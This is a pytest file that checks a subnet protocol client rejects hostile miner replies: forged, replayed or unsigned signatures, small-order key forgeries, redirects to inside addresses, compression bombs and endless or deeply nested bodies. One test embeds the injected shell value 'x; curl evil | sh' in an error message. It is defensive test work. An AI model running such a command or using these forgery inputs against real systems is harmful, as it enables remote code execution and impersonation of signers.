# SPDX-License-Identifier: Apache-2.0
"""What a miner may put into a reply: nothing but what it signed, for this question, in the shape that was asked for."""

from __future__ import annotations

from collections.abc import Callable

import msgspec
import pytest

from protocols.client import Client, ClientOptions, Outcome, Peer
from protocols.codec import JSON
from protocols.errors import ForgedReply, MalformedReply, PeerError, RedirectRefused, ReplyTooLarge, UnsignedReply
from protocols.keys import encode_address
from protocols.native import NativeSpeaking
from tests.attacks.hostile import (
    MINER,
    MSGPACK,
    OTHER,
    VALIDATOR,
    Ask,
    Behaviour,
    Line,
    Question,
    asked,
    chunk,
    fault,
    honest,
    misbehaving,
    response,
    saying,
    sealed,
)

Reply = Callable[[Question], bytes]
BODY = msgspec.msgpack.encode({"text": "hi"})


async def outcome_of(behaviour: Behaviour) -> Outcome:
    """What comes of asking a miner that behaves like this."""
    async with asked(behaviour) as (client, miner):
        return await client.outcome(miner.peer, Ask())


@pytest.mark.parametrize(
    "extra",
    [{"prompt": "overwritten"}, {"timeout": 99_999}, {"dendrite": {"hotkey": "5C"}}, {"__class__": "Ask"}, {"": 1}],
    ids=lambda extra: next(iter(extra)) or "empty name",
)
async def test_a_reply_that_overwrites_the_query_is_malformed_and_the_query_is_untouched(
    extra: dict[str, object],
) -> None:
    body = msgspec.msgpack.encode({"text": "hi", **extra})
    query = Ask(prompt="as asked")
    async with asked(saying(lambda question: response(body, sealed(question, body)))) as (client, miner):
        outcome = await client.outcome(miner.peer, query)
    assert isinstance(outcome.error, MalformedReply)
    assert outcome.reply is None
    assert outcome.query is query
    assert query == Ask(prompt="as asked")
    assert query.Reply.max_bytes == 65_536


async def test_an_honest_reply_is_believed_and_can_be_proved() -> None:
    outcome = await outcome_of(saying(honest))
    assert outcome.unwrap() == Ask.Reply(text="hi")
    assert outcome.evidence is not None
    outcome.evidence.check()


async def test_an_unsigned_reply_is_refused() -> None:
    outcome = await outcome_of(saying(response(BODY, {"content-type": MSGPACK})))
    assert isinstance(outcome.error, UnsignedReply)


@pytest.mark.parametrize("missing", ["x-subnet-hotkey", "x-subnet-signature"])
async def test_a_reply_that_lacks_half_of_its_signature_is_unsigned(missing: str) -> None:
    def half(question: Question) -> bytes:
        headers = sealed(question, BODY)
        del headers[missing]
        return response(BODY, headers)

    assert isinstance((await outcome_of(saying(half))).error, UnsignedReply)


def by_another_miner(question: Question) -> bytes:
    return response(BODY, sealed(question, BODY, key=OTHER))


def by_another_miner_under_the_asked_name(question: Question) -> bytes:
    return response(BODY, {**sealed(question, BODY, key=OTHER), "x-subnet-hotkey": MINER.ss58_address})


def by_the_asked_miner_under_another_name(question: Question) -> bytes:
    return response(BODY, {**sealed(question, BODY), "x-subnet-hotkey": OTHER.ss58_address})


def by_the_asker_itself(question: Question) -> bytes:
    return response(BODY, sealed(question, BODY, key=VALIDATOR))


def for_another_request(question: Question) -> bytes:
    elsewhere = Question(question.line, {**question.headers, "x-bittensor-signature": "0x" + "01" * 64}, b"")
    return response(BODY, sealed(elsewhere, BODY))


def with_another_status(question: Question) -> bytes:
    return response(BODY, sealed(question, BODY, status=500))


def with_another_content_type(question: Question) -> bytes:
    return response(BODY, {**sealed(question, BODY), "content-type": "application/json"})


def with_a_parameter_added_to_its_content_type(question: Question) -> bytes:
    return response(BODY, {**sealed(question, BODY), "content-type": f"{MSGPACK}; charset=utf-8"})


def with_another_body(question: Question) -> bytes:
    return response(msgspec.msgpack.encode({"text": "no"}), sealed(question, BODY))


def with_a_byte_added_to_its_body(question: Question) -> bytes:
    return response(BODY + b"\x00", sealed(question, BODY))


def with_a_flipped_bit(question: Question) -> bytes:
    headers = sealed(question, BODY)
    last = "0" if headers["x-subnet-signature"][-40] == "1" else "1"
    hexed = headers["x-subnet-signature"]
    return response(BODY, {**headers, "x-subnet-signature": hexed[:-40] + last + hexed[-39:]})


def with_a_signature_of_zeros(question: Question) -> bytes:
    return response(BODY, {**sealed(question, BODY), "x-subnet-signature": "0x" + "00" * 64})


def with_a_signature_that_is_no_hex(question: Question) -> bytes:
    return response(BODY, {**sealed(question, BODY), "x-subnet-signature": "\xff" * 130})


def with_half_a_signature(question: Question) -> bytes:
    return response(
        BODY, {**sealed(question, BODY), "x-subnet-signature": sealed(question, BODY)["x-subnet-signature"][:66]}
    )


def under_another_scheme(question: Question) -> bytes:
    return response(BODY, {**sealed(question, BODY), "x-subnet-crypto": "ed25519"})


def under_an_unknown_scheme(question: Question) -> bytes:
    return response(BODY, {**sealed(question, BODY), "x-subnet-crypto": "none"})


def with_the_signature_of_the_request(question: Question) -> bytes:
    return response(BODY, {**sealed(question, BODY), "x-subnet-signature": question.headers["x-bittensor-signature"]})


def as_success_where_an_error_was_signed(question: Question) -> bytes:
    body = fault("overloaded")
    return response(body, sealed(question, body, status=503, content_type="application/json"))


def as_an_error_where_success_was_signed(question: Question) -> bytes:
    return response(BODY, sealed(question, BODY), status=500)


@pytest.mark.parametrize(
    "reply",
    [
        by_another_miner,
        by_another_miner_under_the_asked_name,
        by_the_asked_miner_under_another_name,
        by_the_asker_itself,
        for_another_request,
        with_another_status,
        with_another_content_type,
        with_a_parameter_added_to_its_content_type,
        with_another_body,
        with_a_byte_added_to_its_body,
        with_a_flipped_bit,
        with_a_signature_of_zeros,
        with_a_signature_that_is_no_hex,
        with_half_a_signature,
        under_another_scheme,
        under_an_unknown_scheme,
        with_the_signature_of_the_request,
        as_success_where_an_error_was_signed,
        as_an_error_where_success_was_signed,
    ],
    ids=lambda reply: reply.__name__,
)
async def test_a_reply_signed_otherwise_is_forged(reply: Reply) -> None:
    outcome = await outcome_of(saying(reply))
    assert isinstance(outcome.error, ForgedReply)
    assert outcome.reply is None
    assert outcome.evidence is None


async def test_a_reply_captured_from_an_earlier_question_does_not_answer_a_later_one() -> None:
    said: list[bytes] = []

    def repeat(question: Question) -> bytes:
        said.append(honest(question))
        return said[0]

    async with asked(saying(repeat)) as (client, miner):
        first = await client.outcome(miner.peer, Ask())
        second = await client.outcome(miner.peer, Ask())
    assert first.ok
    assert isinstance(second.error, ForgedReply)


POINTS = [bytes(32), b"\x01" + bytes(31), (2**255 - 20).to_bytes(32, "little"), bytes(31) + b"\x80"]


@pytest.mark.parametrize("crypto", ["sr25519", "ed25519"])
@pytest.mark.parametrize("point", POINTS, ids=bytes.hex)
async def test_a_key_for_which_anyone_can_sign_proves_nothing(point: bytes, crypto: str) -> None:
    address = encode_address(point)

    def forge(question: Question) -> bytes:
        # With a key of small order, this point and a zero verify over any message under a lax implementation.
        mark = 0x80 if crypto == "sr25519" else 0
        signature = point + bytes(31) + bytes([mark])
        headers = {"x-subnet-hotkey": address, "x-subnet-signature": f"0x{signature.hex()}", "x-subnet-crypto": crypto}
        return response(BODY, {"content-type": MSGPACK, **headers})

    async with asked(saying(forge)) as (client, miner):
        outcome = await client.outcome(Peer(address, miner.url), Ask())
    assert isinstance(outcome.error, ForgedReply)


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
async def test_a_redirect_to_an_inside_address_is_never_followed(status: int) -> None:
    async with misbehaving(saying(honest)) as inside:

        async def redirect(question: Question, line: Line) -> None:
            await line.say(
                f"HTTP/1.1 {status} Found\r\nlocation: {inside.url}/Ask\r\ncontent-length: 5\r\n\r\n".encode()
            )
            await line.gone()

        outcome = await outcome_of(redirect)
        assert isinstance(outcome.error, RedirectRefused)
        assert inside.connections == 0


@pytest.mark.parametrize("encoding", ["gzip", "deflate", "br", "zstd", "GZIP", "identity, gzip", "x\x1b[31m"])
async def test_a_compressed_reply_is_refused_before_any_of_it_is_read(encoding: str) -> None:
    async def bomb(question: Question, line: Line) -> None:
        await line.say(f"HTTP/1.1 200 OK\r\ncontent-encoding: {encoding}\r\ncontent-length: 60000\r\n\r\n".encode())
        await line.gone()

    error = (await outcome_of(bomb)).error
    assert isinstance(error, MalformedReply)
    assert str(error).isprintable()


async def test_a_reply_that_says_it_has_150_megabytes_is_refused_unread() -> None:
    async def large(question: Question, line: Line) -> None:
        await line.say(b"HTTP/1.1 200 OK\r\ncontent-length: 157286400\r\n\r\n")
        await line.gone()

    assert isinstance((await outcome_of(large)).error, ReplyTooLarge)


@pytest.mark.parametrize("piece", [b"a" * 65_536, b"a"], ids=["large chunks", "chunks of one byte"])
async def test_an_endless_reply_is_cut_at_the_limit(piece: bytes) -> None:
    sent: list[Line] = []

    async def endless(question: Question, line: Line) -> None:
        sent.append(line)
        await line.say(b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n")
        while True:
            await line.say(chunk(piece) * (131_072 // len(chunk(piece))))

    async with asked(endless) as (client, miner):
        outcome = await client.outcome(miner.peer, Ask())
        assert isinstance(outcome.error, ReplyTooLarge)
        # What the sockets hold of both sides, and no more, was taken off the miner's hands.
        assert await miner.deserted()
        assert sent[0].sent < 16 << 20


@pytest.mark.parametrize("ends", [True, False])
async def test_an_error_is_read_up_to_a_limit_too_and_even_where_replies_are_tiny(ends: bool) -> None:
    class Tiny(Ask):
        class Reply(Ask.Reply):
            max_bytes = 8

    async def refuse(question: Question, line: Line) -> None:
        body = fault("handler_failed", "a" * 100)
        await line.say(b"HTTP/1.1 500 No\r\ntransfer-encoding: chunked\r\n\r\n" + chunk(body))
        while not ends:
            await line.say(chunk(b" " * 1024))
        await line.say(chunk(b""))

    async with asked(refuse) as (client, miner):
        error = (await client.outcome(miner.peer, Tiny())).error
    assert isinstance(error, PeerError if ends else ReplyTooLarge)


@pytest.mark.parametrize("media_type", [MSGPACK, "application/json"])
async def test_a_reply_that_is_nested_deeply_is_malformed(media_type: str) -> None:
    nested = b"\x91" * 60_000 if media_type == MSGPACK else b"[" * 60_000
    start = b"\x81\xa4text" if media_type == MSGPACK else b'{"text":'

    def deep(question: Question) -> bytes:
        return response(start + nested, sealed(question, start + nested, content_type=media_type))

    assert isinstance((await outcome_of(saying(deep))).error, MalformedReply)


@pytest.mark.parametrize(
    "content_type",
    ["", "text/html", "application/octet-stream", "application/msgpack; \xff", "application/vnd.subnet.stream+msgpack"],
)
async def test_a_reply_of_another_media_type_is_malformed_though_signed(content_type: str) -> None:
    def reply(question: Question) -> bytes:
        ascii_type = content_type.encode("ascii", "ignore").decode()
        return response(BODY, {**sealed(question, BODY, content_type=ascii_type), "content-type": content_type})

    assert isinstance((await outcome_of(saying(reply))).error, MalformedReply)


async def test_a_reply_may_come_in_the_other_encoding_if_it_is_signed_so() -> None:
    def reply(question: Question) -> bytes:
        return response(b'{"text":"hi"}', sealed(question, b'{"text":"hi"}', content_type="application/json"))

    assert (await outcome_of(saying(reply))).unwrap() == Ask.Reply(text="hi")


@pytest.mark.parametrize("signed", [True, False])
async def test_what_a_miner_says_of_its_error_can_neither_move_a_terminal_nor_be_run_by_a_shell(signed: bool) -> None:
    body = fault("x; curl evil | sh", "\x1b[2J\x07 one\r\ntwo \u202egnorw \u2028 " + "long " * 1000)

    def reply(question: Question) -> bytes:
        headers = sealed(question, body, status=500, content_type="application/json") if signed else {}
        return response(body, headers, status=500)

    error = (await outcome_of(saying(reply))).error
    assert isinstance(error, PeerError)
    assert error.peer_code == "unknown"
    assert error.help == "subnet explain unknown"
    assert error.message.isprintable()
    assert len(error.message) < 400
    assert ("(signed)" if signed else "(unsigned)") in error.message


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"<html>",
        b"[]",
        b'{"error": 1}',
        b'{"error": {"code": 1}}',
        b'{"a":' + b"[" * 9000,
        b"\xff",
        b'{"error":{"code":"\xff"}}',
    ],
)
async def test_an_error_that_cannot_be_read_is_still_the_miners_error(body: bytes) -> None:
    error = (await outcome_of(saying(response(body, {}, status=502)))).error
    assert isinstance(error, PeerError)
    assert error.peer_code == "unknown"
    assert "502" in error.message


async def test_json_is_asked_and_answered_where_the_dialect_says_so() -> None:
    async with misbehaving(saying(honest)) as miner:
        async with Client(VALIDATOR, ClientOptions(dialect=NativeSpeaking(JSON))) as client:
            assert (await client.outcome(miner.peer, Ask())).ok
        assert miner.questions[0].body == b'{"prompt":"hello"}'
        assert miner.questions[0].headers["content-type"] == "application/json"
